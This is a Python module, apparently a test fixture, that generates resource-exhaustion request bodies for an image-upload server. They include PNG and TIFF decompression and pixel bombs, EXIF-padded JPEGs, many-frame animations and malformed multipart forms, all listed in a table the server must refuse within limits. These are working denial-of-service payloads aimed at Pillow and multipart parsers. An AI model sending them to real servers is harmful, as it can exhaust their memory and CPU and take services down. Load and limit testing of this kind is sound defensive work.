"""Bodies that are made to cost a server far more than they cost their sender. The attack script sends them too."""

from __future__ import annotations

import io
import struct
import zlib
from collections.abc import Callable

import numpy as np
from PIL import Image

MEGABYTE = 1_000_000


def announced(width: int, height: int) -> bytes:
    """A PNG whose header promises this size and which holds no pixel."""
    return png(struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0), (b"IDAT", zlib.compress(b"")))


def png(head: bytes, *chunks: tuple[bytes, bytes]) -> bytes:
    framed = (
        struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))
        for name, data in ((b"IHDR", head), *chunks, (b"IEND", b""))
    )
    return b"\x89PNG\r\n\x1a\n" + b"".join(framed)


def exif_segments(size: int) -> bytes:
    """A JPEG that begins with `size` bytes of EXIF segments, which Pillow joins one after the other."""
    stream = io.BytesIO()
    Image.new("RGB", (8, 8)).save(stream, "JPEG")
    data = b"Exif\0\0" + bytes(60)
    segment = b"\xff\xe1" + struct.pack(">H", len(data) + 2) + data
    return b"\xff\xd8" + segment * (size // len(segment)) + stream.getvalue()[2:]


def tiff(entries: list[tuple[int, int, bytes]], blob: bytes = b"", order: str = "<", then: int = 0) -> bytes:
    """A TIFF directory of (tag, type, packed values), with the long ones and `blob` behind it."""
    sizes = {3: 2, 4: 4}
    start = 8 + 2 + 12 * len(entries) + 4
    packed, behind = b"", b""
    for tag, kind, values in entries:
        count = len(values) // sizes[kind]
        place = values.ljust(4, b"\0")
        if len(values) > 4:
            place = struct.pack(order + "I", start + len(behind))
            behind += values
        packed += struct.pack(order + "HHI", tag, kind, count) + place
    head = {"<": b"II*\0", ">": b"MM\0*"}[order] + struct.pack(order + "I", 8)
    return head + struct.pack(order + "H", len(entries)) + packed + struct.pack(order + "I", then) + behind + blob


def tiny_tiles(side: int) -> bytes:
    """A TIFF of `side` × `side` tiles of one pixel each: Pillow keeps a Python tuple for each of them."""
    tiles = side * side

    def long(value: int) -> bytes:
        return struct.pack("<I", value)

    return tiff(
        [
            (256, 4, long(side)),
            (257, 4, long(side)),
            (258, 3, struct.pack("<H", 8)),
            (259, 3, struct.pack("<H", 1)),
            (262, 3, struct.pack("<H", 1)),
            (277, 3, struct.pack("<H", 1)),
            (322, 4, long(1)),
            (323, 4, long(1)),
            (324, 4, long(8) * tiles),
            (325, 4, long(1) * tiles),
        ]
    )


def pages(count: int, order: str = "<") -> bytes:
    """A TIFF of empty pages."""
    entries = b"".join(struct.pack(order + "HHII", tag, 4, 1, 1) for tag in range(256, 265))
    size = 2 + len(entries) + 4
    links = [8 + size * (at + 1) for at in range(count - 1)] + [0]
    head = {"<": b"II*\0", ">": b"MM\0*"}[order] + struct.pack(order + "I", 8)
    return head + b"".join(struct.pack(order + "H", 9) + entries + struct.pack(order + "I", link) for link in links)


def squeezed(side: int) -> bytes:
    """A PNG of one colour: a few kilobytes that become `side`² pixels."""
    rows = zlib.compress(bytes((1 + 3 * side) * side), 9)
    return png(struct.pack(">IIBBBBB", side, side, 8, 2, 0, 0, 0), (b"IDAT", rows))


def texts(count: int) -> bytes:
    """A PNG with very many compressed comments."""
    text = (b"zTXt", b"a\0\0" + zlib.compress(bytes(100_000)))
    rows = (b"IDAT", zlib.compress(bytes(4 * 4)))
    return png(struct.pack(">IIBBBBB", 1, 4, 8, 2, 0, 0, 0), *[text] * count, rows)


def frames(kind: str, count: int) -> bytes:
    """An animation."""
    stream = io.BytesIO()
    images = [Image.new("L", (4, 4), 255 * (shade % 2)) for shade in range(count)]
    images[0].save(stream, kind, save_all=True, append_images=images[1:])
    return stream.getvalue()


def noise(kind: str, height: int, width: int) -> bytes:
    stream = io.BytesIO()
    Image.fromarray(np.random.default_rng(0).integers(0, 256, (height, width, 3), np.uint8)).save(stream, kind)
    return stream.getvalue()


def form(content: bytes, filename: bytes = b"a.png", boundary: bytes = b"x") -> bytes:
    """A multipart body with one file."""
    head = b'--%s\r\nContent-Disposition: form-data; name="image"; filename="%s"\r\n\r\n' % (boundary, filename)
    return head + content + b"\r\n--%s--\r\n" % boundary


def field(name: bytes, value: bytes, boundary: bytes = b"x") -> bytes:
    """A multipart body with one field that is no file."""
    head = b'--%s\r\nContent-Disposition: form-data; name="%s"\r\n\r\n' % (boundary, name)
    return head + value + b"\r\n--%s--\r\n" % boundary


RAW = "application/octet-stream"
# What it is → (content type, how it is made). Every one must be refused, or judged, within the limits.
BODIES: dict[str, tuple[str, Callable[[], bytes]]] = {
    "JPEG of EXIF segments": (RAW, lambda: exif_segments(31 * MEGABYTE)),
    "TIFF of tiles of one pixel": (RAW, lambda: tiny_tiles(1960)),
    "TIFF of pages": (RAW, lambda: pages(100_000)),
    "PNG of one colour": (RAW, lambda: squeezed(4990)),
    "PNG of comments": (RAW, lambda: texts(20_000)),
    "PNG that promises pixels": (RAW, lambda: announced(30_000, 30_000)),
    "GIF of frames": (RAW, lambda: frames("GIF", 200)),
    "WebP of frames": (RAW, lambda: frames("WEBP", 50)),
    "PPM of digits": (RAW, lambda: b"P3\n3000 2000\n255\n" + b"1 " * 15 * MEGABYTE),
    "BMP of runs": (RAW, lambda: noise("BMP", 40, 40)[:54] + b"\x01\x02" * MEGABYTE),
    "form in punycode": ("multipart/form-data; boundary=x; charset=punycode", lambda: field(b"a", b"a" * 1_150_000)),
    "form named in utf-7": ("multipart/form-data; boundary=x; charset=utf-7", lambda: form(b"no image", b"+AAA\xff+")),
    "form of line ends": ("multipart/form-data; boundary=x", lambda: form(b"\r\n--" * 7 * MEGABYTE)),
    "form of parts": ("multipart/form-data; boundary=x", lambda: form(b"a")[:-7] * 200_000),
    "form of one header": ("multipart/form-data; boundary=x", lambda: form(b"", b"a" * 20 * MEGABYTE)),
    "content type of semicolons": ("multipart/form-data; boundary=" + '";' * 3000, lambda: form(b"a")),
}
